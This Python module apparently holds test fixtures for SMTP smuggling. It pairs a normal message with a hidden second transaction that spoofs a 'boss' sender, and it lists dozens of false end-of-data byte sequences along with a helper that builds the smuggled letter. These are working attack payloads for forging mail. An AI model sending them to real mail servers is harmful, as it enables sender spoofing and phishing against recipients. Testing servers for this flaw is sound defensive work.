"""What smugglers send: false ends of letters, and a whole transaction to hide behind one."""

from __future__ import annotations

HEAD = (
    b"From: Sue <sue@example.org>\r\nTo: people@lists.example.org\r\nSubject: Hello\r\n"
    b"Message-ID: <1@example.org>\r\n\r\n"
)
# As it stands behind DATA: no line of it begins with a dot, so it is the same when dots were taken away.
HIDDEN = (
    b"MAIL FROM:<boss@example.org>\r\nRCPT TO:<staff@lists.example.org>\r\nDATA\r\n"
    b"From: Boss <boss@example.org>\r\nTo: staff@lists.example.org\r\nSubject: Smuggled\r\n\r\n"
    b"This never was a letter.\r\n"
)

# Everything that some server takes for CRLF.CRLF, or might.
SEQUENCES = (
    # The paper, and the CVEs: LF or CR alone on one side or both
    b"\n.\n", b"\n.\r\n", b"\r\n.\n", b"\r.\r", b"\r.\r\n", b"\r\n.\r", b"\n.\r", b"\r.\n",
    # CR before CRLF, and other doublings
    b"\r\n.\r\r\n", b"\r\r.\r\r", b"\n\n.\n\n", b"\n\r.\n\r", b"\n\r.\r\n", b"\r\n\r.\r\n", b"\r\n.\n\r\n",
    b"\r\n.\n\r",
    # NUL, which C strings end with
    b"\r\n\x00.\r\n", b"\r\n.\x00\r\n", b"\r\n.\r\x00\n", b"\r\x00\n.\r\n", b"\n\x00.\r\n", b"\n.\x00\n",
    b"\r\n\x00.\x00\r\n",
    # blanks, which some cut off
    b"\r\n. \r\n", b"\r\n .\r\n", b"\r\n.\t\r\n", b"\r\n.\xa0\r\n",
    # other ends of lines: vertical tab, form feed, the separators of ASCII, NEL, U+2028, U+2029, NEL in one octet
    b"\x0b.\x0b", b"\x0c.\x0c", b"\x1c.\x1c", b"\x1e.\x1e", b"\xc2\x85.\xc2\x85", b"\xe2\x80\xa8.\xe2\x80\xa8",
    b"\xe2\x80\xa9.\xe2\x80\xa9", b"\x85.\x85", b"\r\n.\x85", b"\r\n.\x0c\r\n",
    # dots: stuffed as it must be, twice, and one that looks like a dot
    b"\r\n..\r\n", b"\r\n..\n", b"\n..\n", b"\r\n...\r\n", b"\r\n\xef\xbc\x8e\r\n", b"\r\n\xae\r\n",
    # the eighth bit set on CR, LF and dot, for those who take it off
    b"\x8d\x8a.\x8d\x8a", b"\r\n\x8d\x8a", b"\r\n.\x8d\n", b"\r\n\xae\x8d\x8a",
    # CHUNKING's end, an end-of-file, a Telnet end of record
    b"\r\nBDAT 0 LAST\r\n", b"\x1a\r\n", b"\x04\r\n", b"\xff\xef\r\n",
)  # fmt: skip


def letter(end: bytes) -> bytes:
    """Return a letter, as it goes over the wire before its true end, with a transaction hidden behind a false end."""
    return HEAD + b"Hello all\r\nHello" + end + HIDDEN


def unstuffed(content: bytes) -> bytes:
    """Return what is left when added dots are taken away (RFC 5321 section 4.5.2); only CRLF ends a line."""
    return b"\r\n".join(line.removeprefix(b".") for line in content.split(b"\r\n"))
